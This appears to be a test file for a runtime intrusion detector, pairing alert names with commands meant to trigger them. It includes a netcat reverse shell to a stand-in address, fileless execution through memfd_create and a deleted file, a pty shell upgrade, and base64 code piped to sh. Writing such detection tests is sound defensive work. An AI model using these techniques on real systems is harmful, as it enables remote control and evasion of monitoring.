## Suspicious Process Execution
#in shop:1
/bin/sh -c true
## Reverse shell
#also Connection to a mining pool
#also Input and output tied to a connection with another machine
#also Reverse shell by bash's own network
#also Shell connects to the network
remote 'true'
## Command of a reverse shell
#also Connection to a mining pool
#also Identity asked from a service's shell
#also Input and output tied to a connection with another machine
#also Reverse shell
#also Reverse shell by bash's own network
#also Shell connects to the network
remote 'id'
## Network tool given a shell
timeout 1 busybox nc 203.0.113.9 4445 -e /bin/sh
## Terminal made for a shell
timeout 1 python3 -c 'import pty; pty.spawn("/bin/true")'
## Executable run from memory
#also File in memory made, then run
#also Interpreter makes a file in memory
python3 -c '
import os
fd = os.memfd_create("x"); os.write(fd, open("/bin/true", "rb").read()); os.execve(fd, ["x"], {})'
## Executable run from a deleted file
#also Program written by an interpreter beside its script
python3 -c '
import os, shutil
shutil.copy("/bin/true", "/home/ann/x"); fd = os.open("/home/ann/x", os.O_RDONLY); os.unlink("/home/ann/x"); os.execve(fd, ["x"], {})'
## Executable run from a scratch folder
#setup stubs /tmp/x
/tmp/x
## Execution refused in a scratch folder
echo x > /tmp/x; /tmp/x
## Code given to an interpreter in base64
#also Decoded text given to a shell
sh -c 'echo dHJ1ZQ== | base64 -d | sh'
## Keys typed by a program
#setup mkdir /tmp/dev; mount -t tmpfs dev /tmp/dev; cp -a /dev/null /dev/urandom /tmp/dev; mount --move /tmp/dev /dev; : > /dev/uinput
python3 -c 'open("/dev/uinput", "r+b")'
